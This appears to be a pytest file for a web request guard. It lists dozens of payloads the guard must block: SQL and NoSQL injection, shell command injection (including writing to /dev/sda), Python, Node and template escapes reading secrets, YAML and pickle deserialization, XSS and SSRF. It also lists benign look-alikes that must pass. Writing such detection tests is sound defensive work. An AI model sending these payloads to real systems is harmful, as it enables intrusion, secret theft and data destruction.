"""Attacks of words alone, and the same words with more blanks than one, in each field."""

# ruff: noqa: E501  (tables: one row a kind reads better than the rows broken)
from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Inspection
from tests.detection.requests import environ

KINDS = {
    "names behind a quote": ["zed' or age --", "zed' or age or '", "ann' and name notnull --", "ann' collate nocase --", "ann' group by age --", "ann' window w as (order by id) --", "' or price --", "x') or not age --", "zed' or age is not null --", "zed' or age and name or '", "zed' or age#"],
    "names in double quotes": ['" or 1 or "', '" or id or "', '"or title>"', '" or title <> "', '" or price --', 'book" or price --'],
    "select in brackets": ["0 or (select secret from users limit 1) like 'S3%'", "title, (select secret from users limit 1)", "owner,(select max(pw) from users)", "1-(select id from users)"],
    "columns of another table": ["secret from users --", "id, secret from users --", "secret from users where id = 1 --", "select*from users", "select(name)from users"],
    "keyword in a keyword": ["1 uniunionon selselectect 1", "1 ununionion sselectelect 2"],
    "letters of both cases": ["UnIoN SeLeCt", "uNioN  sElecT"],
    "call in place of a number": ["1-true", "7*false-- ", ",if(1=1,1,0)", ", find_in_set('22', category)"],
    "file in a substitution": ["$(< /etc/passwd)", "$(<config.py)", "$(>x)", "`<x`", "x$(<y)"],
    "shell by its variable": [";$0 /tmp/x", "|$0", ";$SHELL x", "x;${HOME}/a", ';"$0"'],
    "program of any name": [";yes>/dev/sda", ";rev x", "x;busybox sh", "x;csh x", "x;timeout 9 x", "x;poweroff", "x;nginx -s stop", "x;./manage.py flush", "x;aws s3 ls", "x;file x", "x;diff x y", "127.0.0.1|fold x", "x;nsenter"],
    "command first": ["whoami;0", "netstat -an | x", "uname -a && y"],
    "query of a document store": ["}, { password : /.*/ }", "this.password.match(/^a/)", "|| 1==1//"],
    "Python": ["subprocess.run(['id'])", "os.fork()", "importlib.import_module('os')", "ctypes.CDLL(None)", "9**9**9", "'a'*10**10", "[0]*10**9", "print.__self__", "getattr(__builtins__,'eval')", "type('x',(),{})()", "{app.config}", "{{handler.settings}}"],
    "JavaScript": ["alert?.(1)", "[1].find(alert)", "{onerror=alert}throw 1", "alert`1`", "<div hx-get=//evil.example hx-trigger=load>", "<div hx-on:click=alert(1)>"],
    "address": ["https://2001:db8:701:1100::29c8/x.php", "https://evil.example\\@shop.example.com", "/run/secrets/db_password"],
    "dots and slashes": ["/./\\/./", "/.\\/\\.\\.\\/\\.\\", "/./\\/././\\/././\\/./"],
    "address of another site": ["/https://example.com/", "http://472.314.470.462", "http://google.com\\shop.example.com", "/<>//example.com"],
    "union behind a value": ["9 union all select id,name||'PW',pass from users--", "null union select a.*from users a", "0 union select name||':'||pass,1 from users"],
    "operation behind a quote": ["' not null--", "'is not pass--", "'!=name--", "'<>name--", "'collate nocase or 1--", "' is distinct from '", "O'=pass<1--", "'<<0|1--", "'&1|1--", "it is over'<>'", "' or [id];--", "\"or .1;--"],
    "any blank behind a quote": ["'\nor 1<2 --", "'\x0cor 1=1--", "\"\nor 1=1;--", "\"OR\r\n1--", "\"or\t1<2--", "'\x0cOR\tid=id--", "'\tor\t1=1--"],
    "condition without a quote": ["id or 0x1", "null\tor\tid", "null or id", "'' notnull +1", "9|name like'%'", "1>=id notnull", "9 is not '1'", "id OR x'31'", "id or name like'%'"],
    "columns of an update": ["x',role='admin", "x', role='admin' --", "x' where name='admin'--", "x',[role]='admin", "x',role=name where id=1--", "hello','world',1);--"],
    "calls before from": ["max(pass) from users--", "distinct pass from users--", "u.pass from users u--"],
    "lines of a template": ["% from os import popen as p\n{{!p('id').read()}}", "% import os\n{{os.environ}}", "% x=open('/etc/passwd').read()\n{{x}}", "{{_stdout}}"],
    "settings in a template": ["{{ {'a':config} }}", "{{ x ~ config }}", "{{ [config.get('SECRET_KEY')] }}", "{{os.environ}}", "${locals()}", "${context._data}", "{% firstof settings.SECRET_KEY %}"],
    "insides of an object": ["{user.__dict__}", "{0.__doc__}"],
    "open in other words": ["(open)('/etc/passwd').read()", "list(map(open,['/etc/passwd']))[0].read()", "open(file='/etc/passwd').read()", "(x:=open)('/etc/passwd').read()"],
    "tags of YAML": ["%TAG !y! tag:yaml.org,2002:\n---\n!y!python/object/apply:os.system ['true']", "%TAG ! tag:yaml.org,2002:py\n---\n!thon/object/apply:os.system [ 'true' ]", "- 1\n- !!python/object/apply:eval ['1+1']"],
    "modules of Node": ["module.constructor._load('fs')", "require('node:fs').readdirSync('/etc')", "process?.env?.SECRET", "let{env:e}=process;e.SECRET", "Reflect.get(process,'env').SECRET"],
    "script as an address": ["[x](javascript:name)", "<a href=\" javascript:name\">read more</a>", "[a][1]\n\n[1]: javascript:name"],
    "blanks": ["x'  or  'a'='a", "1  union  select  1", "1;execute  immediate 'x'", "x' into  outfile '/tmp/x", "1 procedure  analyse()", "'; declare  @a int", "import  os;os.system('id')", "x' group  by id having 1=1--"],
}  # fmt: skip


@pytest.mark.parametrize("kind", KINDS)
def test_an_attack_of_the_kind_is_refused_in_each_field(inspection: Inspection, kind: str) -> None:
    for text in KINDS[kind]:
        assert inspection.head(environ(query="page=2&id=" + quote(text, safe=""))), text
        form = b"lang=en&name=" + quote(text, safe="").encode()
        assert inspection.body(form, content_type="application/x-www-form-urlencoded"), text
        document = json.dumps({"id": 7, "x": text}).encode()
        assert inspection.body(document, content_type="application/json"), text


@pytest.mark.parametrize(
    "query",
    [
        *("file=../app.py", "page=../../conf/settings.ini", "template=/var/www/html/index.php"),
        *("file=/usr/src/app/app.py", "path=/app/config.yml", "id=div(23,-2)", "page=mod(7,4)"),
        *("ip=1.2.3.4%0areboot", "host=a%0atouch+x", "q=%22+or+id+or+%22"),
        *("url=http://x.example/%3F%253Cf%2520o%2520r%2520m", "next=/a%3F%253Csvg/onload%253Dalert(1)%253E=1"),
    ],
)  # fmt: skip
def test_what_only_a_field_makes_an_attack_is_refused_there(
    inspection: Inspection, query: str
) -> None:
    assert inspection.head(environ(query=query))


@pytest.mark.parametrize(
    "key", ["py/object", "py/reduce", "__reduce__", "__setstate__", "py/function"]
)
def test_keys_that_make_objects_are_refused(inspection: Inspection, key: str) -> None:
    for document in ({key: "os.system"}, {"a": [{"b": {key: ["x"]}}]}):
        body = json.dumps(document).encode()
        assert inspection.body(body, content_type="application/json")


@pytest.mark.parametrize(
    "text",
    [
        *('"MOD"', '"<3"', '"or"', '"not found"', '"not only"', '"in the box"', '"a & b"'),
        *("the boys' or girls' team", "parents' and children's books", "Jones' group by the lake"),
        *('"union square" or "central park"', "'rock' or pop", "letters from home", "news from users"),
        *("salad, soup or pasta", "prices from 5 to 9", "print and frame", "a; b; c", "cut; paste; copy"),
        *("x; file a complaint", "1 - true story", "2 * 3", "select from list", "Union Select Committee"),
        *("CVSS:3.1/AV:N/AC:L/PR:N", "whoami", "$HOME", "9 ** 2", "div(a, b)", "sort; head", "this.state"),
        *("pkg:npm/a@1.2", "../images/logo.png", "the price is $0", "run `ls` first", "a < b", "py/thon"),
    ],
)  # fmt: skip
def test_what_people_write_with_these_words_passes(inspection: Inspection, text: str) -> None:
    assert not inspection.head(environ(query="q=" + quote(text, safe="")))
    document = json.dumps({"id": 7, "comment": text}).encode()
    assert not inspection.body(document, content_type="application/json")


@pytest.mark.parametrize(
    "query",
    [
        *("file=~/.bashrc", "file=.git/config", "page=.env", "path=/dev/zero", "doc=../db.sqlite3"),
        *("url=127.0.0.1:6379", "url=localhost:8080/admin", "host=http://backend:8000/admin"),
        *("url=http://lOcAlHoSt:5000/x", "url=//127.0.0.1", "feed=http://db:5432"),
    ],
)  # fmt: skip
def test_a_place_of_the_server_is_refused_where_an_address_or_a_file_is_asked_for(
    inspection: Inspection, query: str
) -> None:
    assert inspection.head(environ(query=query))


@pytest.mark.parametrize("text", ["~/.bashrc", ".env", "/var/www/html/index.php", "localhost:8080"])
def test_a_place_of_the_server_passes_where_people_search_and_write(
    inspection: Inspection, text: str
) -> None:
    assert not inspection.head(environ(query="q=" + quote(text, safe="")))
    for name in ("comment", "file", "host"):
        document = json.dumps({"id": 7, name: text}).encode()
        assert not inspection.body(document, content_type="application/json")


@pytest.mark.parametrize(
    "text",
    [
        *("'or .or'", '"or//*or"', '"or@id or"', '"||this.password||"', "x\r\nflush_all\r\n"),
        *("\r\nSET a b\r\n", "a\r\nHTTP/1.1 200 OK", "--- !ruby/object:X", "!!python/object:x.Y {}"),
        *("(S'id'\nios\nsystem\n.", "http+unix://x"),
    ],
)  # fmt: skip
def test_lines_and_tags_of_other_languages_are_refused(inspection: Inspection, text: str) -> None:
    assert inspection.head(environ(query="id=" + quote(text, safe="")))
    document = json.dumps({"id": 7, "name": text}).encode()
    assert inspection.body(document, content_type="application/json")


@pytest.mark.parametrize("document", [{"filter": {"$ne": None}}, {"where": {"$gt": ""}}])
def test_an_operator_in_place_of_a_field_is_refused(
    inspection: Inspection, document: object
) -> None:
    body = json.dumps(document).encode()
    assert inspection.body(body, content_type="application/json")


@pytest.mark.parametrize(
    "document",
    [
        {"filter": {"title": {"$ne": None}}},
        {"where": {"$or": [{"price": {"$lt": 3}}, {"sold": True}]}},
        {"filters": {"$and": [{"price": {"$gt": 3}}]}},
    ],
)
def test_an_operator_behind_a_field_passes(inspection: Inspection, document: object) -> None:
    body = json.dumps(document).encode()
    assert not inspection.body(body, content_type="application/json")
